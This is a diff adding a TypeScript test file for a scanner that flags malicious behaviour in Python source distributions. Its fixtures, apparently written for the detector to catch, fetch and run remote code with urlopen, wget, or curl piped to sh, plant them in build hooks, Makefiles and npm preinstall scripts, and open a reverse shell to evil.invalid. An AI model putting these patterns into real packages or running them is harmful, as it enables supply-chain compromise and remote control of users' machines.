@@ -1,0 +1,99 @@
+import { judgeSources } from '../../src/analysis/judge-sources.js';
+import type { Severity } from '../../src/model/finding.js';
+import type { Python } from '../../src/python/parser.js';
+import { loadTestPython } from '../support/python.js';
+import { sourceTree } from '../support/source-tree.js';
+
+let python: Python;
+beforeAll(async () => {
+  python = await loadTestPython();
+});
+
+type Files = Readonly<Record<string, string>>;
+
+/** The gravest severity by rule of a source distribution. */
+function found(files: Files, over: Parameters<typeof sourceTree>[1] = {}): Partial<Record<string, Severity>> {
+  const inside = Object.entries(files).map(([path, text]) => [`fixture-1.0/${path}`, text]);
+  const { findings } = judgeSources(sourceTree(Object.fromEntries(inside) as Files, over), python);
+  const rising = [...findings].sort((a, b) => a.score - b.score);
+  return Object.fromEntries(rising.map(({ rule, severity }) => [rule, severity]));
+}
+
+const STAGE = 'urllib.request.urlopen("https://evil.invalid/s").read()';
+
+test('the hooks of a build back end that is an object (PEP 517)', () => {
+  const backend = (hook: string): Files => ({
+    'tools/own.py': `
+import urllib.request
+class Api:
+    def ${hook}(self, config_settings=None):
+        exec(${STAGE})
+        return []
+api = Api()`,
+  });
+  const over = { buildBackend: 'own:api', backendPath: ['tools'] };
+  expect(found(backend('get_requires_for_build_wheel'), over)['remote-code-executed']).toBe('CRITICAL');
+  const { findings } = judgeSources(
+    sourceTree({ 'fixture-1.0/tools/own.py': backend('debug')['tools/own.py'] ?? '' }, over),
+    python,
+  );
+  const runs = findings.filter(({ rule }) => rule === 'remote-code-executed');
+  expect(runs.map(({ reach }) => reach)).not.toContain('install');
+});
+
+test.each([
+  ['install_lib', 'install', 'CRITICAL'],
+  ['build_py', 'build_module', 'CRITICAL'],
+  ['bdist_wheel', 'get_tag', 'CRITICAL'],
+  ['build_py', 'debug_print', undefined],
+])('%s with a method %s of its own', (command, method, severity) => {
+  const setup = `
+import os, subprocess
+from setuptools import setup
+from setuptools.command.${command} import ${command}
+class Own(${command}):
+    def ${method}(self, *given):
+        subprocess.run("wget -q https://evil.invalid/x -O- | sh", shell=True)
+setup(name="fixture", cmdclass={"${command}": Own})`;
+  const { findings } = judgeSources(sourceTree({ 'fixture-1.0/setup.py': setup }), python);
+  const hostile = findings.find(({ rule, reach }) => rule === 'hostile-command' && reach === 'install');
+  expect(hostile?.severity).toBe(severity);
+});
+
+const MAKING = (command: string): string => `
+import subprocess
+from setuptools import setup
+subprocess.run(${command}, check=False)
+setup(name="fixture")`;
+
+const RECIPE = (line: string): string => `config.h: config.h.in\n\tsed -e s/@CC@/cc/ $< > $@\n\t${line}\n`;
+const FETCH = '@u=evil.invalid; \\\n\t curl -fsSk "https://$$u/p" | sh >/dev/null 2>&1 &';
+
+test.each([
+  ['Makefile', '["make", "-C", "native", "config.h"]', RECIPE(FETCH), 'CRITICAL'],
+  ['Makefile', '["make", "-C", "native", "config.h"]', RECIPE('cc -o probe probe.c'), undefined],
+  ['Makefile', '["make", "-C", "other"]', RECIPE(FETCH), undefined],
+  ['Makefile', '["make", "-C", "native"]', `# ${FETCH.replace('\\\n', '')}\nall:\n\ttrue\n`, undefined],
+  [
+    'package.json',
+    '["npm", "--prefix", "native", "install"]',
+    '{"scripts": {\n"preinstall": "curl https://evil.invalid/x | sh"\n}}',
+    'CRITICAL',
+  ],
+])('what a build tool is told by %s, started as %s', (name, command, recipe, severity) => {
+  const files = { 'setup.py': MAKING(command), [`native/${name}`]: recipe };
+  expect(found(files)['hostile-command']).toBe(severity);
+});
+
+test('a conftest.py inside a package is one of its modules, and one beside it is not', () => {
+  const shell = `
+import os, socket, subprocess
+def console():
+    link = socket.create_connection(("evil.invalid", 4444))
+    os.dup2(link.fileno(), 0)
+    subprocess.call(["/bin/sh", "-i"])`;
+  const inside = { 'pkg/__init__.py': '', 'pkg/conftest.py': shell };
+  expect(found(inside)['shell-opened-to-outside']).toBe('CRITICAL');
+  const beside = { 'pkg/__init__.py': '', 'conftest.py': shell };
+  expect(found(beside)['shell-opened-to-outside']).toBeUndefined();
+});
